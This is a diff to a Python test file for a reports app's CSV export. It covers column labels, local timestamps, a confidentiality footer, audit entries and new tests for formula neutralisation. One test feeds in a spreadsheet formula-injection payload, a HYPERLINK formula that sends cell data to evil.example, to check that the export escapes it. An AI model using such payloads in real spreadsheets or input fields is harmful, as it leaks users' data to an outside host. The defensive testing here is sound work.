@@ -2,10 +2,12 @@
 
 import csv
 import io
+from zoneinfo import ZoneInfo
 
 from sqlmodel import select
 
 from app.jobs.models import JobEvent
+from app.reports import export
 from app.reports.models import AuditEntry
 from tests.conftest import sign_in
 from tests.integration.after_helpers import completed_job
@@ -65,12 +67,12 @@ async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client,
     await sign_in(client, manager)
     response = await client.get("/reports/export.csv", params={"period": "2026"})
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
-    assert "jobs-2026.csv" in response.headers["content-disposition"]
-    lines = response.text.splitlines()
-    assert lines[0].startswith("# Confidential. Exported by Test manager")
-    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
-    assert [row["number"] for row in rows] == [first.number, second.number]
-    assert rows[0]["state"] == "COMPLETED" and rows[0]["device_model"] == "XR-200"
+    assert "jobs-2026-confidential.csv" in response.headers["content-disposition"]
+    lines = response.content.decode("utf-8-sig").splitlines()
+    assert lines[-1].startswith("Confidential. Exported by Test manager")
+    rows = list(csv.DictReader(io.StringIO("\n".join(lines[:-1]))))
+    assert [row["Job number"] for row in rows] == [first.number, second.number]
+    assert rows[0]["State"] == "Completed" and rows[0]["Device model"] == "XR-200"
     assert "Acme" not in response.text  # no customer personal data in the export
     entry = (await db.exec(select(AuditEntry).where(AuditEntry.action == "export_csv"))).one()
     assert entry.actor_id == manager.id and entry.record_id == "2026"
@@ -105,3 +107,27 @@ async def test_it_records_a_printed_report(client, db, make_user):
     assert page.status_code == 200 and "Confidential. Printed by" in page.text
     entry = (await db.exec(select(AuditEntry))).one()
     assert entry.action == "report_print" and entry.record_id == "2026-H2"
+
+
+async def test_it_writes_a_csv_a_spreadsheet_opens_safely_with_local_times_and_labels(client, db, make_user):
+    coordinator = await make_user("coordinator")
+    job = await completed_job(client, db, coordinator, device_model='=HYPERLINK("http://evil.example/?x="&A1,"Help")')
+    await sign_in(client, await make_user("manager"))
+    raw = (await client.get("/reports/export.csv", params={"period": "2026"})).content
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel then shows Chinese
+    text = raw.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    header, row = rows[0], rows[1]
+    assert header[:3] == ["Job number", "Type", "State"] and "Requested (Asia/Shanghai)" in header
+    values = dict(zip(header, row, strict=True))
+    assert values["Device model"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Help")'
+    assert values["Type"] == "Onsite repair" and values["Zone"] == "In service area" and values["Paid"] == "No"
+    local = job.requested_at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
+    assert values["Requested (Asia/Shanghai)"] == local
+    assert rows[-1][0].startswith("Confidential.")
+
+
+def test_it_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula():
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert export.neutralise(f"{start}1+1") == f"'{start}1+1"
+    assert export.neutralise("XR-200") == "XR-200" and export.neutralise("") == ""
